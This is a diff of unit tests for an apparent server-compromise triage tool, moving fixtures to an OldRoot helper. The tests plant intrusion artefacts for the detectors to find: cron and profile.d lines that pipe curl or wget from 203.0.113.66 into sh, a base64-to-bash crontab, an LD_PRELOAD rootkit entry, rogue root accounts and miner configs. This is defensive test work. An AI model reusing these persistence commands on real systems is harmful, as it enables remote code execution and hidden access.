@@ -16,11 +16,13 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from vpsrescue.bundle import Manifest, ManifestEntry
 from vpsrescue.triage import system
 from vpsrescue.triage.model import Context, Finding, Site
 from vpsrescue.triage.system import accounts, commands, logs, persistence
 from vpsrescue.triage.system import files as system_files
+
+from ..oldroot import OldRoot
+from .restore_bundle import make_bundle
 
 pytestmark = pytest.mark.unit
 
@@ -103,62 +105,6 @@ fi
 ELF = Path("/bin/true").read_bytes()  # a real ELF binary (never executed here)
 
 
-class Tree:
-    """An old root in tmp_path with files and a dpkg database that ships some of them."""
-
-    def __init__(self, tmp_path: Path) -> None:
-        self.root = tmp_path / "root"
-        self.root.mkdir()
-        self.status: list[str] = []
-
-    def write(self, path: str, data: bytes | str, mode: int | None = None) -> Path:
-        local = self.root / path.lstrip("/")
-        local.parent.mkdir(parents=True, exist_ok=True)
-        local.write_bytes(data.encode() if isinstance(data, str) else data)
-        if mode is not None:
-            os.chmod(local, mode)
-        return local
-
-    def link(self, path: str, target: str) -> None:
-        local = self.root / path.lstrip("/")
-        local.parent.mkdir(parents=True, exist_ok=True)
-        os.symlink(target, local)
-
-    def package(self, name: str, files: dict[str, bytes | str], *, version: str = "1.0-1",
-                conffiles: Iterable[str] = (), shipped: dict[str, bytes] | None = None,
-                write: bool = True) -> None:
-        """Install ``files`` as package ``name``: .list, .md5sums (md5 of ``shipped``
-        content where given: what the .deb had), status with Conffiles."""
-        shipped = shipped or {}
-        conffiles = set(conffiles)
-        dirs: set[str] = set()
-        md5lines, conf = [], []
-        for path, data in files.items():
-            raw = data.encode() if isinstance(data, str) else data
-            if write:
-                self.write(path, raw)
-            d = os.path.dirname(path)
-            while d not in ("/", ""):
-                dirs.add(d)
-                d = os.path.dirname(d)
-            md5 = hashlib.md5(shipped.get(path, raw)).hexdigest()
-            if path in conffiles:
-                conf.append(f" {path} {md5}")
-            else:
-                md5lines.append(f"{md5}  {path.lstrip('/')}")
-        info = "/var/lib/dpkg/info/"
-        self.write(f"{info}{name}.list", "\n".join(["/."] + sorted(dirs) + list(files)) + "\n")
-        self.write(f"{info}{name}.md5sums", "\n".join(md5lines) + "\n")
-        para = [f"Package: {name}", "Status: install ok installed", f"Version: {version}"]
-        if conf:
-            para += ["Conffiles:", *conf]
-        self.status.append("\n".join(para + ["Description: test package"]))
-        self.write("/var/lib/dpkg/status", "\n\n".join(self.status) + "\n")
-
-    def ctx(self, sites: list[Site] | None = None) -> Context:
-        return Context(self.root, sites=sites)
-
-
 def by_path(findings: Iterable[Finding]) -> dict[str, list[Finding]]:
     out: dict[str, list[Finding]] = {}
     for f in findings:
@@ -173,13 +119,13 @@ def serious(findings: Iterable[Finding]) -> list[Finding]:
 # --------------------------------------------------------------------------- accounts
 
 def test_accounts_extra_uid0_and_shells_found_hashes_never_shown(tmp_path: Path) -> None:
-    t = Tree(tmp_path)
-    t.write("/etc/passwd", PASSWD + "sysbackup:x:0:0:System Backup:/var/backups/.sys:"
-            "/bin/bash\nbackup:x:34:34:backup:/var/backups:/bin/sh\n"
-            f"oldstyle:{HASH}:0:0::/root:/bin/sh\n")
-    t.write("/etc/shadow", SHADOW + f"sysbackup:{HASH}:19000:0:99999:7:::\n"
-            "backup:*:19000:0:99999:7:::\n"
-            f"www-data:{HASH.replace('Qx1n', 'WwWd')}:19000::::::\n")
+    t = OldRoot(tmp_path)
+    t.passwd(PASSWD + "sysbackup:x:0:0:System Backup:/var/backups/.sys:"
+             "/bin/bash\nbackup:x:34:34:backup:/var/backups:/bin/sh\n"
+             f"oldstyle:{HASH}:0:0::/root:/bin/sh\n")
+    t.file("/etc/shadow", SHADOW + f"sysbackup:{HASH}:19000:0:99999:7:::\n"
+           "backup:*:19000:0:99999:7:::\n"
+           f"www-data:{HASH.replace('Qx1n', 'WwWd')}:19000::::::\n")
     # www-data now appears twice in shadow: the later line (with a hash) wins
     found = list(accounts.check_accounts(t.ctx()))
     text = json.dumps([f.to_json() for f in found])
@@ -201,24 +147,24 @@ def test_accounts_extra_uid0_and_shells_found_hashes_never_shown(tmp_path: Path)
 
 
 def test_accounts_genuine_debian_is_quiet(tmp_path: Path) -> None:
-    t = Tree(tmp_path)
-    t.write("/etc/passwd", PASSWD)
-    t.write("/etc/shadow", SHADOW)
+    t = OldRoot(tmp_path)
+    t.passwd(PASSWD)
+    t.file("/etc/shadow", SHADOW)
     assert serious(accounts.check_accounts(t.ctx())) == []
 
 
 # --------------------------------------------------------------------------- sudoers
 
 def test_sudoers_nopasswd_and_all_grants_found_defaults_quiet(tmp_path: Path) -> None:
-    t = Tree(tmp_path)
-    t.write("/etc/sudoers", SUDOERS)
-    t.write("/etc/sudoers.d/README", "#\n# Files in /etc/sudoers.d are parsed...\n"
-            "# deploy ALL=(ALL) NOPASSWD: ALL\n")
+    t = OldRoot(tmp_path)
+    t.file("/etc/sudoers", SUDOERS)
+    t.file("/etc/sudoers.d/README", "#\n# Files in /etc/sudoers.d are parsed...\n"
+           "# deploy ALL=(ALL) NOPASSWD: ALL\n")
     assert list(accounts.check_sudoers(t.ctx())) == []
-    t.write("/etc/sudoers.d/90-cloud", "sysbackup ALL=(ALL) \\\n    NOPASSWD: ALL\n"
-            "%www ALL=(root) NOPASSWD: /usr/sbin/service apache2 reload\n"
-            "deploy ALL=(ALL:ALL) ALL\n@include /etc/sudo.local\n")
-    t.write("/etc/sudo.local", "www-data ALL=NOPASSWD:ALL\n")
+    t.file("/etc/sudoers.d/90-cloud", "sysbackup ALL=(ALL) \\\n    NOPASSWD: ALL\n"
+           "%www ALL=(root) NOPASSWD: /usr/sbin/service apache2 reload\n"
+           "deploy ALL=(ALL:ALL) ALL\n@include /etc/sudo.local\n")
+    t.file("/etc/sudo.local", "www-data ALL=NOPASSWD:ALL\n")
     found = list(accounts.check_sudoers(t.ctx()))
     got = {(f.extra["who"], f.severity, f.path) for f in found}
     assert got == {("sysbackup", "critical", "/etc/sudoers.d/90-cloud"),
@@ -238,14 +184,14 @@ def _keygen(tmp_path: Path, comment: str) -> str:
 
 
 def test_ssh_every_key_reported_with_fingerprint_and_options(tmp_path: Path) -> None:
-    t = Tree(tmp_path)
-    t.write("/etc/passwd", PASSWD)
+    t = OldRoot(tmp_path)
+    t.passwd(PASSWD)
     admin = _keygen(tmp_path, "zhang@thinkpad")
     intruder = _keygen(tmp_path, "root@localhost")
-    t.write("/root/.ssh/authorized_keys", f"# my laptop\n{admin}\n\n{intruder}\n")
-    t.write("/home/alice/.ssh/authorized_keys2",
-            f'command="/usr/bin/rsync --server",from="10.0.0.0/8,198.51.100.9" {admin}\n')
-    t.write("/home/alice/.ssh/known_hosts", f"example.org {admin}\n")
+    t.file("/root/.ssh/authorized_keys", f"# my laptop\n{admin}\n\n{intruder}\n")
+    t.file("/home/alice/.ssh/authorized_keys2",
+           f'command="/usr/bin/rsync --server",from="10.0.0.0/8,198.51.100.9" {admin}\n')
+    t.file("/home/alice/.ssh/known_hosts", f"example.org {admin}\n")
     found = by_path(accounts.check_ssh(t.ctx()))
     root_keys = found["/root/.ssh/authorized_keys"]
     assert [f.severity for f in root_keys] == ["high", "high"]
@@ -263,16 +209,16 @@ def test_ssh_every_key_reported_with_fingerprint_and_options(tmp_path: Path) -> 
 
 
 def test_ssh_sshd_config_changes_found_debian_default_quiet(tmp_path: Path) -> None:
-    t = Tree(tmp_path)
-    t.write("/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\n"
-            "#PermitRootLogin prohibit-password\n#PasswordAuthentication yes\n"
-            "#AuthorizedKeysFile     .ssh/authorized_keys .ssh/authorized_keys2\n"
-            "ChallengeResponseAuthentication no\nUsePAM yes\nX11Forwarding yes\n")
+    t = OldRoot(tmp_path)
+    t.file("/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\n"
+           "#PermitRootLogin prohibit-password\n#PasswordAuthentication yes\n"
+           "#AuthorizedKeysFile     .ssh/authorized_keys .ssh/authorized_keys2\n"
+           "ChallengeResponseAuthentication no\nUsePAM yes\nX11Forwarding yes\n")
     assert list(accounts.check_ssh(t.ctx())) == []
-    t.write("/etc/ssh/sshd_config.d/zz.conf", "PermitRootLogin yes\n"
-            "PasswordAuthentication=yes\nAuthorizedKeysFile /etc/ssh/keys/%u\n")
-    t.write("/etc/ssh/keys/root", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHoYkpjqqDxGPy7dAfJ2"
-            "sCdHa3FzR+x9VO1391XZCI/G hidden@key\n")
+    t.file("/etc/ssh/sshd_config.d/zz.conf", "PermitRootLogin yes\n"
+           "PasswordAuthentication=yes\nAuthorizedKeysFile /etc/ssh/keys/%u\n")
+    t.file("/etc/ssh/keys/root", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHoYkpjqqDxGPy7dAfJ2"
+           "sCdHa3FzR+x9VO1391XZCI/G hidden@key\n")
     found = list(accounts.check_ssh(t.ctx()))
     kinds = sorted((f.kind, f.severity) for f in found)
     assert kinds == [("authorized_key", "high"), ("sshd_config", "low"),
@@ -304,24 +250,26 @@ def test_authorized_key_lines_parse_back(options: list[str], ktype: str, raw: by
 # --------------------------------------------------------------------------- cron
 
 def test_cron_fetch_and_unowned_found_packaged_quiet(tmp_path: Path) -> None:
-    t = Tree(tmp_path)
-    t.package("cron", {"/etc/crontab": CRONTAB, "/etc/cron.d/.placeholder": "# DO NOT EDIT\n"},
-              conffiles=["/etc/crontab", "/etc/cron.d/.placeholder"])
-    t.package("php7.4-common", {"/etc/cron.d/php": CRON_PHP}, conffiles=["/etc/cron.d/php"])
-    t.package("logrotate", {"/etc/cron.daily/logrotate": "#!/bin/sh\n"
-                            "if [ -d /run/systemd/system ]; then\n    exit 0\nfi\n"
-                            "/usr/sbin/logrotate /etc/logrotate.conf\n"},
-              conffiles=["/etc/cron.daily/logrotate"])
+    t = OldRoot(tmp_path)
+    t.debian_package("cron", {"/etc/crontab": CRONTAB,
+                              "/etc/cron.d/.placeholder": "# DO NOT EDIT\n"},
+                     conffiles=["/etc/crontab", "/etc/cron.d/.placeholder"])
+    t.debian_package("php7.4-common", {"/etc/cron.d/php": CRON_PHP},
+                     conffiles=["/etc/cron.d/php"])
+    t.debian_package("logrotate", {"/etc/cron.daily/logrotate": "#!/bin/sh\n"
+                                   "if [ -d /run/systemd/system ]; then\n    exit 0\nfi\n"
+                                   "/usr/sbin/logrotate /etc/logrotate.conf\n"},
+                     conffiles=["/etc/cron.daily/logrotate"])
     # packaged as shipped, though it names /tmp: trusted (md5sums, not a conffile)
-    t.package("sysstat", {"/etc/cron.daily/sysstat": "#!/bin/sh\nTMP=/tmp/sa.$$\n"})
+    t.debian_package("sysstat", {"/etc/cron.daily/sysstat": "#!/bin/sh\nTMP=/tmp/sa.$$\n"})
     assert list(persistence.check_cron(t.ctx())) == []
-    t.write("/etc/cron.d/apache2-update", "# apache2 maintenance\n*/15 * * * * root (curl "
-            "-fsSL http://203.0.113.66/u.sh || wget -q -O- http://203.0.113.66/u.sh) | sh\n")
-    t.write("/etc/cron.d/backup", "30 2 * * * root /usr/local/bin/backup-db\n")
-    t.write("/var/spool/cron/crontabs/www-data",
-            "# DO NOT EDIT THIS FILE\n* * * * * echo Y3VybCBldmls | base64 -d | bash\n")
-    t.write("/etc/cron.d/php", CRON_PHP + "# local\n")  # edited conffile, harmless
-    t.write("/etc/cron.daily/sysstat", "#!/bin/sh\nTMP=/tmp/sa.$$\n/dev/shm/.s &\n")
+    t.file("/etc/cron.d/apache2-update", "# apache2 maintenance\n*/15 * * * * root (curl "
+           "-fsSL http://203.0.113.66/u.sh || wget -q -O- http://203.0.113.66/u.sh) | sh\n")
+    t.file("/etc/cron.d/backup", "30 2 * * * root /usr/local/bin/backup-db\n")
+    t.file("/var/spool/cron/crontabs/www-data",
+           "# DO NOT EDIT THIS FILE\n* * * * * echo Y3VybCBldmls | base64 -d | bash\n")
+    t.file("/etc/cron.d/php", CRON_PHP + "# local\n")  # edited conffile, harmless
+    t.file("/etc/cron.daily/sysstat", "#!/bin/sh\nTMP=/tmp/sa.$$\n/dev/shm/.s &\n")
     found = by_path(persistence.check_cron(t.ctx()))
     (fetch,) = found["/etc/cron.d/apache2-update"]
     assert fetch.severity == "critical" and "http://203.0.113.66/u.sh" in fetch.evidence
@@ -351,24 +299,24 @@ def test_suspicious_command_lines(line: str, flagged: bool) -> None:
 
 def test_systemd_unowned_unit_from_hidden_tmp_dir_found_packaged_quiet(tmp_path: Path
                                                                        ) -> None:
-    t = Tree(tmp_path)
-    t.package("openssh-server", {"/lib/systemd/system/ssh.service": SSH_UNIT})
+    t = OldRoot(tmp_path)
+    t.debian_package("openssh-server", {"/lib/systemd/system/ssh.service": SSH_UNIT})
     t.link("/etc/systemd/system/sshd.service", "/lib/systemd/system/ssh.service")
     t.link("/etc/systemd/system/multi-user.target.wants/ssh.service",
            "/lib/systemd/system/ssh.service")
     t.link("/etc/systemd/system/apt-daily.service", "/dev/null")  # masked
-    t.package("webmin", {"/usr/share/webmin/webmin.service": SSH_UNIT})
+    t.debian_package("webmin", {"/usr/share/webmin/webmin.service": SSH_UNIT})
     t.link("/etc/systemd/system/webmin.service", "/usr/share/webmin/webmin.service")
     assert list(persistence.check_systemd(t.ctx())) == []
-    t.write("/opt/.cache/agent.service", SSH_UNIT)
+    t.file("/opt/.cache/agent.service", SSH_UNIT)
     t.link("/etc/systemd/system/agent.service", "/opt/.cache/agent.service")
-    t.write("/etc/systemd/system/kworkerd.service", "[Unit]\nDescription=Kernel worker\n"
-            "[Service]\nExecStart=/var/tmp/.X11-unix/kworkerd -c /var/tmp/.X11-unix/c.json\n"
-            "Restart=always\n[Install]\nWantedBy=multi-user.target\n")
+    t.file("/etc/systemd/system/kworkerd.service", "[Unit]\nDescription=Kernel worker\n"
+           "[Service]\nExecStart=/var/tmp/.X11-unix/kworkerd -c /var/tmp/.X11-unix/c.json\n"
+           "Restart=always\n[Install]\nWantedBy=multi-user.target\n")
     t.link("/etc/systemd/system/multi-user.target.wants/kworkerd.service",
            "/etc/systemd/system/kworkerd.service")
-    t.write("/etc/systemd/system/backup.service", "[Service]\nType=oneshot\n"
-            "ExecStart=/usr/local/bin/backup-db\n")
+    t.file("/etc/systemd/system/backup.service", "[Service]\nType=oneshot\n"
+           "ExecStart=/usr/local/bin/backup-db\n")
     found = by_path(persistence.check_systemd(t.ctx()))
     (kw,) = found["/etc/systemd/system/kworkerd.service"]
     assert kw.severity == "critical" and kw.extra["enabled"] is True
@@ -385,23 +333,24 @@ def test_systemd_unowned_unit_from_hidden_tmp_dir_found_packaged_quiet(tmp_path:
 # --------------------------------------------------------------------------- start-up
 
 def test_startup_scripts_found_debian_defaults_quiet(tmp_path: Path) -> None:
-    t = Tree(tmp_path)
-    t.write("/etc/passwd", PASSWD)
-    t.package("gawk", {"/etc/profile.d/gawk.sh": "gawkpath_default () {\n"
-                       "\tunset AWKPATH\n}\n"}, conffiles=["/etc/profile.d/gawk.sh"])
-    t.package("cron", {"/etc/init.d/cron": "#!/bin/sh\n### BEGIN INIT INFO\n"})
-    t.package("bash", {"/etc/skel/.profile": SKEL_PROFILE, "/etc/skel/.bashrc": SKEL_BASHRC})
-    t.write("/root/.bashrc", SKEL_BASHRC)
-    t.write("/home/alice/.profile", SKEL_PROFILE + 'if [ -d "$HOME/.local/bin" ] ; then\n'
-            '    PATH="$HOME/.local/bin:$PATH"\nfi\n. "$HOME/.cargo/env"\n')
-    t.write("/etc/rc.local", "#!/bin/sh -e\n# rc.local\n\nexit 0\n")
+    t = OldRoot(tmp_path)
+    t.passwd(PASSWD)
+    t.debian_package("gawk", {"/etc/profile.d/gawk.sh": "gawkpath_default () {\n"
+                              "\tunset AWKPATH\n}\n"}, conffiles=["/etc/profile.d/gawk.sh"])
+    t.debian_package("cron", {"/etc/init.d/cron": "#!/bin/sh\n### BEGIN INIT INFO\n"})
+    t.debian_package("bash", {"/etc/skel/.profile": SKEL_PROFILE,
+                              "/etc/skel/.bashrc": SKEL_BASHRC})
+    t.file("/root/.bashrc", SKEL_BASHRC)
+    t.file("/home/alice/.profile", SKEL_PROFILE + 'if [ -d "$HOME/.local/bin" ] ; then\n'
+           '    PATH="$HOME/.local/bin:$PATH"\nfi\n. "$HOME/.cargo/env"\n')
+    t.file("/etc/rc.local", "#!/bin/sh -e\n# rc.local\n\nexit 0\n")
     assert list(persistence.check_startup(t.ctx())) == []
-    t.write("/etc/rc.local", "#!/bin/sh -e\n/usr/local/bin/agent &\nexit 0\n")
-    t.write("/etc/init.d/kworker", "#!/bin/sh\n/var/tmp/.X11-unix/kworkerd &\n")
-    t.write("/etc/profile.d/motd.sh", "curl -s http://203.0.113.66/m | sh\n")
-    t.write("/root/.bashrc", SKEL_BASHRC + "export LD_PRELOAD=/usr/lib/libhide.so\n")
-    t.write("/etc/profile.d/gawk.sh", "gawkpath_default () {\n\tunset AWKPATH\n}\n"
-            "export AWKPATH=/usr/share/awk\n")
+    t.file("/etc/rc.local", "#!/bin/sh -e\n/usr/local/bin/agent &\nexit 0\n")
+    t.file("/etc/init.d/kworker", "#!/bin/sh\n/var/tmp/.X11-unix/kworkerd &\n")
+    t.file("/etc/profile.d/motd.sh", "curl -s http://203.0.113.66/m | sh\n")
+    t.file("/root/.bashrc", SKEL_BASHRC + "export LD_PRELOAD=/usr/lib/libhide.so\n")
+    t.file("/etc/profile.d/gawk.sh", "gawkpath_default () {\n\tunset AWKPATH\n}\n"
+           "export AWKPATH=/usr/share/awk\n")
     found = by_path(persistence.check_startup(t.ctx()))
     assert found["/etc/rc.local"][0].severity == "high"
     assert found["/etc/init.d/kworker"][0].severity == "high"
@@ -415,13 +364,13 @@ def test_startup_scripts_found_debian_defaults_quiet(tmp_path: Path) -> None:
 # --------------------------------------------------------------------------- ld.so
 
 def test_ld_so_preload_file_and_unowned_library(tmp_path: Path) -> None:
-    t = Tree(tmp_path)
-    t.package("libc6", {"/usr/lib/x86_64-linux-gnu/libc.so.6": ELF})
-    t.write("/etc/ld.so.preload", "# nothing\n\n")
+    t = OldRoot(tmp_path)
+    t.debian_package("libc6", {"/usr/lib/x86_64-linux-gnu/libc.so.6": ELF})
+    t.file("/etc/ld.so.preload", "# nothing\n\n")
     assert list(persistence.check_ld_so_preload(t.ctx())) == []
     lib = "/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.3.2"
-    t.write(lib, ELF)
-    t.write("/etc/ld.so.preload", f"{lib}\n/usr/lib/x86_64-linux-gnu/libc.so.6\n")
+    t.file(lib, ELF)
+    t.file("/etc/ld.so.preload", f"{lib}\n/usr/lib/x86_64-linux-gnu/libc.so.6\n")
     found = by_path(persistence.check_ld_so_preload(t.ctx()))
     (pre,) = found["/etc/ld.so.preload"]
     assert pre.severity == "critical" and lib in pre.evidence and not pre.quarantine
@@ -433,15 +382,13 @@ def test_ld_so_preload_file_and_unowned_library(tmp_path: Path) -> None:
 # --------------------------------------------------------------------------- suid
 
 def test_suid_unowned_found_packaged_and_dirs_quiet(tmp_path: Path) -> None:
-    t = Tree(tmp_path)
-    t.package("passwd", {"/usr/bin/passwd": ELF})
-    os.chmod(t.root / "usr/bin/passwd", 0o4755)
-    d = t.root / "var/lib/transmission-daemon/downloads"
-    d.mkdir(parents=True)
-    os.chmod(d, 0o2775)
+    t = OldRoot(tmp_path)
+    t.debian_package("passwd", {"/usr/bin/passwd": ELF})
+    os.chmod(t.path("/usr/bin/passwd"), 0o4755)
+    t.dir("/var/lib/transmission-daemon/downloads", mode=0o2775)
     assert list(system_files.check_suid(t.ctx())) == []
-    t.write("/usr/local/bin/.pwn", ELF, mode=0o4755)
-    t.write("/var/www/site/tool", ELF, mode=0o2755)
+    t.file("/usr/local/bin/.pwn", ELF, mode=0o4755)
+    t.file("/var/www/site/tool", ELF, mode=0o2755)
     found = by_path(system_files.check_suid(t.ctx()))
     assert found["/usr/local/bin/.pwn"][0].severity == "high"
     assert found["/var/www/site/tool"][0].evidence == "mode 2755"
@@ -451,38 +398,33 @@ def test_suid_unowned_found_packaged_and_dirs_quiet(tmp_path: Path) -> None:
 
 def test_suid_in_a_bundle_comes_from_the_manifest(tmp_path: Path) -> None:
     """files/ has setuid bits stripped; the manifest keeps the original mode."""
-    bundle = tmp_path / "bundle"
-    files = bundle / "files"
-    (files / "var/www/site").mkdir(parents=True)
-    (files / "var/www/site/tool").write_bytes(ELF)
-    (files / "var/www/site/index.php").write_bytes(b"<?php\n")
-    m = Manifest(host="old")
-    m.add(ManifestEntry(path=b"var/www/site/tool", type="file", size=len(ELF), mode=0o4755))
-    m.add(ManifestEntry(path=b"var/www/site/index.php", type="file", size=6, mode=0o644))
-    m.save(bundle / "manifest.json")
-    found = list(system_files.check_suid(Context(files)))
+    b = make_bundle(tmp_path, [], tree={b"/var/www/site/tool": ELF,
+                                        b"/var/www/site/index.php": b"<?php\n"},
+                    modes={b"/var/www/site/tool": 0o4755}, triaged=False)
+    assert not os.stat(b.files_dir / "var/www/site/tool").st_mode & 0o7111
+    found = list(system_files.check_suid(Context(b.files_dir)))
     assert [(f.path, f.evidence) for f in found] == [("/var/www/site/tool", "mode 4755")]
 
 
 # --------------------------------------------------------------------------- tmp
 
 def test_elf_and_miner_in_tmp_and_hidden_dirs(tmp_path: Path) -> None:
-    t = Tree(tmp_path)
-    t.write("/tmp/notes.txt", "pools are closed on mondays\n")
-    t.write("/tmp/composer.json", json.dumps({"require": {"php": ">=7.4"}}))
-    t.write("/var/www/site/.git/config", "[core]\n\tbare = false\n")
-    t.write("/var/www/site/wp-includes/js/x.js", "var pools = [];\n")
-    t.write("/root/.cargo/bin/rustc", ELF)
-    t.write("/var/www/site/wp-content/plugins/p/bin/helper", ELF)  # not hidden: not here
+    t = OldRoot(tmp_path)
+    t.file("/tmp/notes.txt", "pools are closed on mondays\n")
+    t.file("/tmp/composer.json", json.dumps({"require": {"php": ">=7.4"}}))
+    t.file("/var/www/site/.git/config", "[core]\n\tbare = false\n")
+    t.file("/var/www/site/wp-includes/js/x.js", "var pools = [];\n")
+    t.file("/root/.cargo/bin/rustc", ELF)
+    t.file("/var/www/site/wp-content/plugins/p/bin/helper", ELF)  # not hidden: not here
     sites = [Site(root="/var/www/site", content_dir="/var/www/site/wp-content")]
     quiet = serious(system_files.check_tmp(t.ctx(sites)))
     assert [(f.path, f.severity) for f in quiet] == [("/root/.cargo/bin/rustc", "low")]
-    t.write("/var/tmp/.X11-unix/kworkerd", ELF)
-    t.write("/var/tmp/.X11-unix/config.json", json.dumps(
+    t.file("/var/tmp/.X11-unix/kworkerd", ELF)
+    t.file("/var/tmp/.X11-unix/config.json", json.dumps(
         {"autosave": True, "pools": [{"url": "pool.example.com:4444", "user": "44AF"}]}))
-    t.write("/dev/shm/.../m.conf", "url = stratum+tcp://198.51.100.3:3333\n")
-    t.write("/root/.local/share/.m/c.json", '{"pools": [{"url": "198.51.100.3:3333"}]}')
-    t.write("/var/www/site/wp-content/uploads/.cache/php-fpm", ELF)
+    t.file("/dev/shm/.../m.conf", "url = stratum+tcp://198.51.100.3:3333\n")
+    t.file("/root/.local/share/.m/c.json", '{"pools": [{"url": "198.51.100.3:3333"}]}')
+    t.file("/var/www/site/wp-content/uploads/.cache/php-fpm", ELF)
     found = by_path(system_files.check_tmp(t.ctx(sites)))
     assert found["/var/tmp/.X11-unix/kworkerd"][0].kind == "elf_in_tmp"
     assert found["/var/www/site/wp-content/uploads/.cache/php-fpm"][0].severity == "critical"
@@ -496,28 +438,29 @@ def test_elf_and_miner_in_tmp_and_hidden_dirs(tmp_path: Path) -> None:
 # --------------------------------------------------------------------------- binaries
 
 def test_modified_binaries_and_shadowing_commands(tmp_path: Path) -> None:
-    t = Tree(tmp_path)
+    t = OldRoot(tmp_path)
     # usr-merged like the old disk: /bin -> usr/bin, packages list /bin/...
     t.link("/bin", "usr/bin")
     t.link("/lib", "usr/lib")
     sshd = ELF + b"\0openssh"
-    t.write("/usr/bin/ls", ELF + b"\0ls")
-    t.package("coreutils", {"/bin/ls": ELF + b"\0ls"}, write=False)
-    t.package("openssh-server", {"/usr/sbin/sshd": sshd + b"PAM_BACKDOOR_PW"},
-              shipped={"/usr/sbin/sshd": sshd})
-    t.package("libpam-modules", {"/lib/x86_64-linux-gnu/security/pam_unix.so": ELF + b"u"},
-              shipped={"/lib/x86_64-linux-gnu/security/pam_unix.so": ELF + b"pam"},
-              write=False)
-    t.write("/usr/lib/x86_64-linux-gnu/security/pam_unix.so", ELF + b"u")
-    t.package("mariadb-client-10.5", {"/usr/bin/mysqldump": ELF + b"\0dump"})
-    t.write("/usr/local/bin/backup-db", "#!/bin/sh\nmysqldump --all-databases > /srv/b.sql\n",
-            mode=0o755)
-    t.write("/usr/local/bin/mysqldump", "#!/bin/sh\necho x >> /tmp/.log\nexec /usr/bin/"
-            "mysqldump \"$@\"\n", mode=0o755)
-    t.write("/usr/local/bin/README", "not a program\n", mode=0o644)
-    t.write("/usr/local/sbin/ps", ELF, mode=0o644)  # as in a bundle's files/: no exec bits
-    t.package("procps", {"/bin/ps": ELF + b"\0ps"})
-    t.write("/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.3.2", ELF)
+    t.file("/usr/bin/ls", ELF + b"\0ls")
+    t.debian_package("coreutils", {"/bin/ls": ELF + b"\0ls"}, write=False)
+    t.debian_package("openssh-server", {"/usr/sbin/sshd": sshd + b"PAM_BACKDOOR_PW"},
+                     shipped={"/usr/sbin/sshd": sshd})
+    t.debian_package("libpam-modules",
+                     {"/lib/x86_64-linux-gnu/security/pam_unix.so": ELF + b"u"},
+                     shipped={"/lib/x86_64-linux-gnu/security/pam_unix.so": ELF + b"pam"},
+                     write=False)
+    t.file("/usr/lib/x86_64-linux-gnu/security/pam_unix.so", ELF + b"u")
+    t.debian_package("mariadb-client-10.5", {"/usr/bin/mysqldump": ELF + b"\0dump"})
+    t.file("/usr/local/bin/backup-db", "#!/bin/sh\nmysqldump --all-databases > /srv/b.sql\n",
+           mode=0o755)
+    t.file("/usr/local/bin/mysqldump", "#!/bin/sh\necho x >> /tmp/.log\nexec /usr/bin/"
+           "mysqldump \"$@\"\n", mode=0o755)
+    t.file("/usr/local/bin/README", "not a program\n", mode=0o644)
+    t.file("/usr/local/sbin/ps", ELF, mode=0o644)  # as in a bundle's files/: no exec bits
+    t.debian_package("procps", {"/bin/ps": ELF + b"\0ps"})
+    t.file("/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.3.2", ELF)
     found = by_path(system_files.check_binaries(t.ctx()))
     (ssh,) = found["/usr/sbin/sshd"]
     assert ssh.kind == "modified_binary" and ssh.severity == "critical"
@@ -547,24 +490,24 @@ TRANSMISSION_DEFAULT = {"download-dir": "/var/lib/transmission-daemon/downloads"
 
 
 def test_bittorrent_client_open_rpc_and_large_downloads(tmp_path: Path) -> None:
-    t = Tree(tmp_path)
-    t.package("rsync", {"/usr/bin/rsync": ELF})
-    t.write("/etc/transmission-daemon/settings.json", json.dumps(TRANSMISSION_DEFAULT))
-    t.write("/var/www/site/wp-content/uploads/2020/01/intro.mp4", b"\0" * 4096)
+    t = OldRoot(tmp_path)
+    t.debian_package("rsync", {"/usr/bin/rsync": ELF})
+    t.file("/etc/transmission-daemon/settings.json", json.dumps(TRANSMISSION_DEFAULT))
+    t.file("/var/www/site/wp-content/uploads/2020/01/intro.mp4", b"\0" * 4096)
     sites = [Site(root="/var/www/site", content_dir="/var/www/site/wp-content")]
     assert list(system_files.check_bittorrent(t.ctx(sites))) == []
-    t.package("transmission-daemon", {"/usr/bin/transmission-daemon": ELF},
-              version="3.00-1")
+    t.debian_package("transmission-daemon", {"/usr/bin/transmission-daemon": ELF},
+                     version="3.00-1")
     t.link("/etc/systemd/system/multi-user.target.wants/transmission-daemon.service",
            "/lib/systemd/system/transmission-daemon.service")
-    t.write("/etc/transmission-daemon/settings.json", json.dumps(
+    t.file("/etc/transmission-daemon/settings.json", json.dumps(
         TRANSMISSION_DEFAULT | {"rpc-whitelist-enabled": 0}, indent=4))
-    t.write("/var/lib/transmission-daemon/.config/transmission-daemon/torrents/Movie.2008."
-            "1080p.mkv.11d269c7a1f14916.torrent", b"d8:announce0:4:infod4:name3:abcee")
+    t.file("/var/lib/transmission-daemon/.config/transmission-daemon/torrents/Movie.2008."
+           "1080p.mkv.11d269c7a1f14916.torrent", b"d8:announce0:4:infod4:name3:abcee")
     for p in ("/srv/media/dl/Movie.2008.1080p.mkv", "/var/www/site/films/big.avi"):
-        local = t.write(p, b"")
+        local = t.file(p, b"")
         os.truncate(local, 60 << 20)  # sparse: large without writing 60 MB
-    t.write("/etc/transmission-daemon/settings.json", json.dumps(
+    t.file("/etc/transmission-daemon/settings.json", json.dumps(
         TRANSMISSION_DEFAULT | {"rpc-whitelist-enabled": 0, "download-dir": "/srv/media/dl"}))
     found = by_path(system_files.check_bittorrent(t.ctx(sites)))
     (inst,) = found["/var/lib/dpkg/info/transmission-daemon.list"]
@@ -583,21 +526,21 @@ def test_bittorrent_client_open_rpc_and_large_downloads(tmp_path: Path) -> None:
 # --------------------------------------------------------------------------- logs
 
 def test_logs_root_logins_per_ip_upload_posts_and_history(tmp_path: Path) -> None:
-    t = Tree(tmp_path)
-    t.write("/etc/passwd", PASSWD)
-    t.write("/var/log/auth.log", "Mar 11 03:10:01 vps sshd[2100]: Failed password for root "
-            "from 198.51.100.200 port 1 ssh2\nMar 11 03:12:05 vps sshd[2112]: Accepted "
-            "password for root from 203.0.113.66 port 40084 ssh2\nMar 11 04:00:00 vps sshd"
-            "[2200]: Accepted publickey for alice from 198.51.100.20 port 2 ssh2\n")
+    t = OldRoot(tmp_path)
+    t.passwd(PASSWD)
